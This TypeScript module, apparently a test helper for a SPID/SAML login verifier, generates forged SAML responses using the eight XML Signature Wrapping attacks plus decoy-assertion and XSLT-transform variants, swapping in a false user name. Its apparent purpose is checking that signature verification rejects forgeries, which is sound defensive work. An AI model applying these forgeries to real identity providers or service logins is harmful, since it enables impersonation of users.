import { DSIG, SAML, SAMLP } from '../spid/saml-names.js'
import {
  type Document,
  DOMParser,
  type Element,
  type XmlNode,
  XMLSerializer,
} from '../spid/xml-library.gateway.js'
import { type Forgery } from './spid-case.js'

/** Whom a forger would like to be. */
export const FORGED_NAME = 'Contraffatta'

/**
 * Forges a signed answer. `xsw1` to `xsw8` are the eight ways of wrapping that J. Somorovsky and others describe ("On
 * Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012): what is signed is moved, and something else stands
 * where it would be read.
 */
export function forge(text: string, forgery: Forgery): string {
  const document = new DOMParser().parseFromString(text, 'text/xml')
  const response = document.documentElement as Element
  FORGERIES[forgery](document, response)
  return new XMLSerializer().serializeToString(document)
}

const FORGERIES: Record<Forgery, (document: Document, response: Element) => void> = {
  xsw1: (document, response) => {
    const { evil, signature } = evilResponse(document, response)
    signature.appendChild(withoutSignature(response))
    evil.insertBefore(signature, evil.firstChild)
  },
  xsw2: (document, response) => {
    const { evil, signature } = evilResponse(document, response)
    evil.insertBefore(signature, evil.firstChild)
    evil.insertBefore(withoutSignature(response), signature)
  },
  xsw3: (_document, response) => {
    const original = assertionOf(response)
    response.insertBefore(evilOf(original), original)
  },
  xsw4: (_document, response) => {
    const original = assertionOf(response)
    const evil = evilOf(original)
    response.replaceChild(evil, original)
    evil.appendChild(original)
  },
  xsw5: (_document, response) => {
    const { bare } = swapped(response)
    response.appendChild(bare)
  },
  xsw6: (_document, response) => {
    const { signature, bare } = swapped(response)
    signature.appendChild(bare)
  },
  xsw7: (document, response) => {
    const original = assertionOf(response)
    const extensions = document.createElementNS(SAMLP, 'samlp:Extensions')
    const evil = evilOf(original)
    evil.setAttribute('ID', original.getAttribute('ID') ?? '')
    extensions.appendChild(evil)
    response.insertBefore(extensions, original)
  },
  xsw8: (document, response) => {
    const { signature, bare } = swapped(response)
    const object = document.createElementNS(DSIG, 'ds:Object')
    object.appendChild(bare)
    signature.appendChild(object)
  },
  decoyUnsigned: (document, response) => decoy(document, response, false),
  decoyInvalid: (document, response) => decoy(document, response, true),
  xslt: (document, response) => {
    const [transforms] = [...response.getElementsByTagNameNS(DSIG, 'Transforms')]
    const transform = document.createElementNS(DSIG, 'ds:Transform')
    transform.setAttribute('Algorithm', 'http://www.w3.org/TR/1999/REC-xslt-19991116')
    transforms?.insertBefore(transform, transforms.firstChild)
  },
}

/** A false assertion with the true one's signature; and the true one without it. */
function swapped(response: Element): { evil: Element; signature: Element; bare: Element } {
  const original = assertionOf(response)
  const bare = withoutSignature(original)
  const evil = evilOf(original)
  const signature = signatureOf(original)
  evil.insertBefore(signature, evil.firstChild)
  response.replaceChild(evil, original)
  return { evil, signature, bare }
}

/** What is signed stands first, and is not what is read. */
function decoy(document: Document, response: Element, withSignature: boolean): void {
  const original = assertionOf(response)
  const evil = evilOf(original)
  if (withSignature) evil.insertBefore(signatureOf(original).cloneNode(true), evil.firstChild)
  const extensions = document.createElementNS(SAMLP, 'samlp:Extensions')
  response.replaceChild(evil, original)
  extensions.appendChild(original)
  response.insertBefore(extensions, response.firstChild)
}

/** Puts a false Response in the place of the true one, whose signature it is given. */
function evilResponse(document: Document, response: Element): { evil: Element; signature: Element } {
  const signature = signatureOf(response).cloneNode(true) as Element
  const evil = response.cloneNode(true) as Element
  evil.removeChild(signatureOf(evil))
  evil.setAttribute('ID', '_evil')
  pretend(evil)
  document.replaceChild(evil, response)
  return { evil, signature }
}

function evilOf(assertion: Element): Element {
  const evil = withoutSignature(assertion)
  evil.setAttribute('ID', '_evil')
  pretend(evil)
  return evil
}

function pretend(element: Element): void {
  for (const attribute of element.getElementsByTagNameNS(SAML, 'Attribute'))
    if (attribute.getAttribute('Name') === 'name') attribute.textContent = ''
  for (const attribute of element.getElementsByTagNameNS(SAML, 'Attribute')) {
    if (attribute.getAttribute('Name') !== 'name') continue
    const value = attribute.ownerDocument?.createElementNS(SAML, 'saml:AttributeValue')
    if (!value) continue
    value.textContent = FORGED_NAME
    attribute.appendChild(value)
  }
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element
  copy.removeChild(signatureOf(copy))
  return copy
}

function assertionOf(response: Element): Element {
  return childOf(response, SAML, 'Assertion')
}

function signatureOf(element: Element): Element {
  return childOf(element, DSIG, 'Signature')
}

function childOf(element: Element, namespace: string, name: string): Element {
  for (let child: XmlNode | null = element.firstChild; child; child = child.nextSibling)
    if (
      child.nodeType === 1 &&
      (child as Element).localName === name &&
      (child as Element).namespaceURI === namespace
    )
      return child as Element
  throw new TypeError(`no ${name}`)
}
